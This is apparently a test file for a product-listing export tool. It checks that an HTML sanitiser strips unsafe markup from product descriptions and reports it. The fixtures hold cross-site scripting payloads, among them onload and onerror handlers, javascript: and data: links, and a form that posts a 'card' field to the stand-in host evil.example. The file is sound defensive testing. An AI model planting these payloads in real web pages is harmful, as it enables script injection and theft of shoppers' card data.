"""Description HTML: what the old pattern check let through is removed, and validate says what."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from klisting.infra.htmlsafe import sanitize
from tests.hostile.conftest import klisting, product, write_json_catalog

BYPASSES = {
    "svg": ("<p>Soft</p><svg/onload=alert(1)>x</svg>", "<svg>"),
    "img": ('<p>Soft</p><img src="x" onerror="alert(1)">', "onerror= on <img>"),
    "entity": ('<a href="&#106;avascript:alert(1)">Soft</a>', "javascript: href on <a>"),
    "data": ('<a href="data:text/html;base64,PHNjcmlwdD4=">Soft</a>', "data: href on <a>"),
    "base": ('<base href="http://evil.example/"><p>Soft</p>', "<base>"),
    "form": ('<form action="http://evil.example/"><input name="card"></form><p>Soft</p>', "<form>"),
    "script": ("<script>steal()</script><p>Soft</p>", "<script>"),
    "style": ('<p style="color:red;background:url(javascript:x)">Soft</p>', None),
}
_DANGER = ("onload", "onerror", "javascript:", "data:", "<base", "<form", "<script", "<svg", "url(")


@pytest.mark.parametrize("name", sorted(BYPASSES))
def test_sanitiser_removes_every_bypass_and_names_it(name: str) -> None:
    html, removed = BYPASSES[name]
    result = sanitize(html)
    assert not any(word in result.html.lower() for word in _DANGER), result.html
    assert "Soft" in result.html  # the text itself stays
    if removed:
        assert removed in result.removed


def test_ordinary_description_html_is_left_alone() -> None:
    html = '<p style="color:#333">순면 <b>100%</b></p><ul><li>S</li></ul><img src="https://cdn.example/1.jpg" alt="detail">'
    assert sanitize(html).html == html and sanitize(html).removed == []
    assert sanitize("a < b & c").html == "a < b & c"  # plain text is not touched


def test_validate_reports_and_export_removes(tmp_path: Path) -> None:
    items = [
        product(f"H-{name}", **{"상세설명": html, "카테고리": "생활/건강>주방용품"})
        for name, (html, _) in sorted(BYPASSES.items())
    ]
    catalog = write_json_catalog(tmp_path / "cat", items)
    result = klisting("validate", catalog, "--format", "json")
    findings = json.loads(result.stdout)["findings"]
    unsafe = {f["sku"]: f["message"] for f in findings if f["code"] == "description.unsafe-html"}
    assert "<svg>" in unsafe["H-svg"] and "onerror= on <img>" in unsafe["H-img"]
    assert "javascript: href on <a>" in unsafe["H-entity"] and "<form>" in unsafe["H-form"]
    out = tmp_path / "out"
    run = klisting(
        "run", catalog, "-t", "shopify:us", "--no-images", "-o", out, "--work-dir", tmp_path / "w"
    )
    assert run.exit_code == 0, run.output
    with (out / "shopify-us" / "products.csv").open(encoding="utf-8") as handle:
        descriptions = [row["Description"] for row in csv.DictReader(handle) if row["Description"]]
    assert len(descriptions) == len(BYPASSES)
    for text in descriptions:
        assert "Soft" in text and not any(word in text.lower() for word in _DANGER), text
